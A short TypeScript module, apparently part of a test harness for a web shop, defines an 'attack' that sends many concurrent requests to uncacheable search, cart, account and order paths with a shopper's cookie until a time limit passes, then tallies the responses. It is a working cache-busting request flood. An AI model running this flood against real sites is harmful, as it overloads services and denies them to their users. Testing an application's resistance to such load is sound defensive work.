import { Agent } from "node:http";
import { type Attack, count, sendAsAttacker, type Tally } from "../attack.ts";

const PATHS = [
  "/products?q=a",
  "/search/suggestions?q=goa+nep+khoau+xaoi+",
  "/cart?",
  "/api/order/user?",
  "/account?",
  "/account/data.json?",
  `/order/a?key=${"k".repeat(28)}`,
];

/** Requests pages that are in no cache, many at once, until the time is up. */
export const attack: Attack<{ atOnce: number; forMs: number }> = async (
  { url, shopper },
  { atOnce, forMs },
) => {
  const tally: Tally = {};
  const agent = new Agent({ keepAlive: true });
  const headers = { cookie: shopper.cookie };
  const until = performance.now() + forMs;
  const lane = async (i: number) => {
    for (let n = i; performance.now() < until; n++)
      count(tally, await sendAsAttacker(url, `${PATHS[n % PATHS.length]}${n}`, { headers, agent }));
  };
  await Promise.all(Array.from({ length: atOnce }, (_, i) => lane(i)));
  agent.destroy();
  return tally;
};
